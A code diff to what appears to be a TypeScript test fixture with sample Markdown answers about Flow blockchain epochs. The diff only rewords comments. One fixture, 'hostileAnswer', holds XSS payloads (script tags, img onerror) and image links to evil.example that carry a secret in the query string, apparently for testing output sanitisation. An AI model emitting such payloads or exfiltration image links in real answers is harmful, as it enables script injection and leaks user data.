@@ -1,6 +1,6 @@
 import { daysSql } from './chat-worlds.ts'
 
-/** Everything of Markdown that an answer may have. */
+/** All supported Markdown elements. */
 export const longAnswer = `# The epoch of Flow
 
 An **epoch** is about *a week* of the chain. It has ~~two~~ three phases, and \`FlowEpoch\` keeps them. Accounts such as \`0x1654653399040a61\` and transactions such as \`${'ab'.repeat(32)}\` lead to the explorer.
@@ -49,7 +49,7 @@ access(all) fun main(): UInt64 {
 Look at [the documentation](https://developers.flow.com/build) or https://developers.flow.com/networks. The next epoch begins at block \`98,765,432\`.
 `
 
-/** Words that strangers would have a model write. */
+/** Untrusted text that an attacker might have a model write. */
 export const hostileAnswer = `The token is called <img src=x onerror=alert(1)><script>alert(1)</script>.
 
 ![the balance](https://evil.example/pixel.png?q=secret) and ![](//evil.example/x.png) and ![own](/assets/x.png)
